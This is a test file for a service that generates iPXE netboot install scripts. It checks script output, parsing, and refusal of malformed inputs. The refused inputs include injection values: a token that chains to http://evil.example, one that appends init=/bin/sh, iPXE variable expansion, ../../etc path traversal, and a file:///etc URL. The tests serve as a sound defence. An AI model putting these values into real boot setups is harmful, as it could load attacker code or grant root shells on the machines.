import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { readScript } from '../../dev/machines/netboot-script.js';
import { installScript, localBootScript, UnfitForScript } from './netboot.js';

const netboot = suite('netboot scripts');
const installation = { baseUrl: 'https://shop.example:3000', token: 'a'.repeat(32), system: 'debian-13' };

netboot('[SVC-10] starts the installer of this system with its token', () => {
  assert.is(
    installScript(installation),
    `#!ipxe
kernel https://shop.example:3000/netboot/images/debian-13/kernel quiet qm.url=https://shop.example:3000 qm.token=${installation.token}
initrd https://shop.example:3000/netboot/images/debian-13/initrd
boot
`,
  );
});

netboot('[SVC-10] lets a machine without an order go on to its disk', () => {
  assert.is(localBootScript(), '#!ipxe\nexit\n');
});

for (const [what, differing] of Object.entries({
  'a second line in the token': { token: `${'a'.repeat(32)}\nchain http://evil.example` },
  'a variable in the token': { token: `${'a'.repeat(16)}\${serial}` },
  'an argument in the token': { token: `${'a'.repeat(16)} init=/bin/sh` },
  'a token too short to be one': { token: 'short' },
  'a path in the system': { system: '../../etc' },
  'a blank in the system': { system: 'debian 13' },
  'no system': { system: '' },
  'a blank in the URL': { baseUrl: 'https://shop.example rw' },
  'a password in the URL': { baseUrl: 'https://user:word@shop.example' },
  'a question in the URL': { baseUrl: 'https://shop.example/?a=b' },
  'a slash at the end of the URL': { baseUrl: 'https://shop.example/' },
  'another protocol': { baseUrl: 'file:///etc' },
})) {
  netboot(`[SVC-10] refuses ${what}`, () => {
    const refused = (error: unknown) => error instanceof UnfitForScript && !String(error).includes('aaaa');
    assert.throws(() => installScript({ ...installation, ...differing }), refused);
  });
}

netboot('[SVC-10] is read by a machine as it was meant', () => {
  const order = readScript(installScript(installation));
  assert.is(order?.kernel, 'https://shop.example:3000/netboot/images/debian-13/kernel');
  assert.is(order?.arguments.get('qm.token'), installation.token);
  assert.is(order?.arguments.get('qm.url'), installation.baseUrl);
  assert.is(readScript(localBootScript()), undefined);
});

netboot('[SVC-10] a page that is no script boots nothing', () => {
  for (const text of ['', '<html>', '#!ipxe\nsanboot iscsi:x\n', '#!ipxe\nkernel http://a/k\nboot\n']) {
    assert.throws(() => readScript(text), undefined, text);
  }
});

netboot.run();
